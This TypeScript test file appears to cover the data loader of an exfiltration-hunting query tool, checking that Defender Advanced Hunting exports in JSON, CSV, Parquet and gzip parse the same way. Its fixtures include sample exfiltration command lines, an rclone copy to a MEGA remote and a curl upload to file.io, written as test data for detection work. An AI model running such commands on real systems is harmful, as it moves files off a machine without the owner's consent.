import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { gzipSync } from 'node:zlib';
import { parquetWriteBuffer } from 'hyparquet-writer';
import { compileFor, loadData, runPlan } from '../engine/query.js';
import { discoverFiles, textBytes } from './index.js';
import { formatDatetime } from '../engine/values/datetime.js';
import type { I64 } from '../engine/values/int64.js';

const ROOT = mkdtempSync(path.join(tmpdir(), 'exfilwatch-src-'));
after(() => rmSync(ROOT, { recursive: true, force: true }));

function dir(files: Record<string, string | Buffer>): string {
  const d = mkdtempSync(path.join(ROOT, 'd-'));
  for (const [name, body] of Object.entries(files)) writeFileSync(path.join(d, name), body);
  return d;
}

async function query(q: string, d: string) {
  const data = await loadData(await discoverFiles([d]));
  const b = await runPlan(compileFor(q, data), data, 0);
  return { b, stats: data.stats };
}

test('streaming-API envelopes route each record to the table its category names', async () => {
  const msg = (table: string, props: object) => ({ time: 't', category: `AdvancedHunting-${table}`, operationName: 'Publish', properties: props });
  const d = dir({
    'PT1H.json': JSON.stringify({ records: [msg('DeviceProcessEvents', { FileName: 'a.exe' }), msg('DeviceNetworkEvents', { RemotePort: 443 })] }) + '\n'
      + JSON.stringify(msg('DeviceProcessEvents', { FileName: 'b.exe' })) + '\n',
  });
  assert.deepEqual((await query('DeviceProcessEvents | project FileName', d)).b.columns[0], ['a.exe', 'b.exe']);
  assert.deepEqual((await query('DeviceNetworkEvents | project RemotePort', d)).b.columns[0], [443]);
});

/** Nanoseconds since 1970 of an ISO time with up to 9 fractional digits. */
function nanos(iso: string): bigint {
  const m = /^(.*T\d\d:\d\d:\d\d)(?:\.(\d+))?Z$/.exec(iso)!;
  return BigInt(Date.parse(m[1] + 'Z')) * 1_000_000n + BigInt((m[2] ?? '').padEnd(9, '0'));
}

/** A Parquet file as exports write one: INT64 ReportId, nanosecond TIMESTAMP, UTF8 strings. */
function parquetOf(rows: { Timestamp: string; FileName: string; ProcessCommandLine: string; ReportId: string }[], rowGroupSize = 1000): Buffer {
  return Buffer.from(parquetWriteBuffer({
    columnData: [
      { name: 'Timestamp', data: rows.map((r) => nanos(r.Timestamp)) },
      { name: 'FileName', data: rows.map((r) => r.FileName) },
      { name: 'ProcessCommandLine', data: rows.map((r) => r.ProcessCommandLine) },
      { name: 'ReportId', data: rows.map((r) => BigInt(r.ReportId)) },
    ],
    schema: [
      { name: 'root', num_children: 4 },
      { name: 'Timestamp', type: 'INT64', repetition_type: 'OPTIONAL', logical_type: { type: 'TIMESTAMP', isAdjustedToUTC: true, unit: 'NANOS' } },
      { name: 'FileName', type: 'BYTE_ARRAY', repetition_type: 'OPTIONAL', converted_type: 'UTF8' },
      { name: 'ProcessCommandLine', type: 'BYTE_ARRAY', repetition_type: 'OPTIONAL', converted_type: 'UTF8' },
      { name: 'ReportId', type: 'INT64', repetition_type: 'OPTIONAL' },
    ],
    rowGroupSize,
  }));
}

test('the same rows from JSON lines, a JSON array, API results, CSV, Parquet and gzip agree', async () => {
  const rows = [
    { Timestamp: '2026-11-01T10:00:00.1234567Z', FileName: 'rclone.exe', ProcessCommandLine: 'rclone copy "a, b" mega:x', ReportId: '9007199254740993' },
    { Timestamp: '2026-11-01T11:00:00Z', FileName: 'curl.exe', ProcessCommandLine: 'curl -F "file=@x"\nhttps://file.io', ReportId: '7' },
  ];
  const csv = 'Timestamp,FileName,ProcessCommandLine,ReportId\n' + rows.map((r) => [r.Timestamp, r.FileName, `"${r.ProcessCommandLine.replace(/"/g, '""')}"`, r.ReportId].join(',')).join('\n') + '\n';
  const jsonl = rows.map((r) => JSON.stringify(r)).join('\n') + '\n';
  const variants = {
    'DeviceProcessEvents.jsonl': jsonl,
    'DeviceProcessEvents.json': JSON.stringify(rows),
    'DeviceProcessEvents-api.json': JSON.stringify({ Schema: [], Results: rows }),
    'DeviceProcessEvents.csv': csv,
    'DeviceProcessEvents.csv.gz': gzipSync(csv),
    'DeviceProcessEvents.parquet': parquetOf(rows),
    'DeviceProcessEvents-2.parquet.gz': gzipSync(parquetOf(rows, 1)),
  };
  const q = 'DeviceProcessEvents | project Timestamp, FileName, ProcessCommandLine, ReportId | sort by Timestamp asc';
  let first: unknown;
  for (const [name, body] of Object.entries(variants)) {
    const { b } = await query(q, dir({ [name]: body }));
    assert.equal(b.length, 2, name);
    assert.equal(b.columns[3]![0], 9007199254740993n, `${name}: ReportId stays exact`);
    assert.equal(formatDatetime(b.columns[0]![0] as I64), '2026-11-01T10:00:00.1234567Z', `${name}: 7-digit time kept`);
    first ??= b.columns;
    assert.deepEqual(b.columns, first, name);
  }
});

test('a file of a table we do not know loads with inferred types', async () => {
  const d = dir({ 'Assets.csv': 'Host,Owner,Score,Seen\nWS-1,alice,3,2026-11-01T00:00:00Z\nWS-2,bob,4.5,2026-11-02T00:00:00Z\n' });
  const { b } = await query('Assets | where Score > 3 | project Host, Score, Seen', d);
  assert.deepEqual(b.fields.map((f) => f.type), ['string', 'real', 'datetime']);
  assert.deepEqual(b.columns[0], ['WS-2']);
});

test('a malformed record in a file read for two tables is warned about and counted once', async () => {
  const msg = (table: string, props: object) => JSON.stringify({ category: `AdvancedHunting-${table}`, properties: props });
  const d = dir({ 'PT1H.json': [msg('DeviceProcessEvents', { FileName: 'a.exe' }), '{broken', msg('DeviceNetworkEvents', { RemotePort: 443 })].join('\n') + '\n' });
  const { b, stats } = await query('union DeviceProcessEvents, DeviceNetworkEvents | count', d);
  assert.equal(b.columns[0]![0], 2);
  assert.equal(stats.skipped, 1);
  assert.deepEqual(stats.warnings.map((w) => w.line), [2]);
});

test('the text size of compressed inputs is judged by what they hold, not by their bytes on disk', async () => {
  const line = JSON.stringify({ Timestamp: '2026-11-01T00:00:00.0000000Z', DeviceName: 'ws-1', FileName: 'curl.exe' }) + '\n';
  const text = line.repeat(200);
  const columnData = [{ name: 'DeviceName', type: 'STRING' as const, data: Array.from({ length: 200 }, () => 'ws-1') }];
  const d = dir({ 'DeviceProcessEvents.jsonl': text, 'DeviceNetworkEvents.jsonl.gz': gzipSync(text), 'DeviceFileEvents.parquet': Buffer.from(parquetWriteBuffer({ columnData })) });
  const files = await discoverFiles([d]);
  const on = (suffix: string) => files.filter((f) => f.path.endsWith(suffix));
  const fs = await import('node:fs');
  const size = (suffix: string) => fs.statSync(on(suffix)[0]!.path).size;
  assert.equal(await textBytes(on('.jsonl')), text.length);
  assert.equal(await textBytes(on('.gz')), size('.gz') * 10);
  assert.equal(await textBytes(on('.parquet')), size('.parquet') * 50);
});
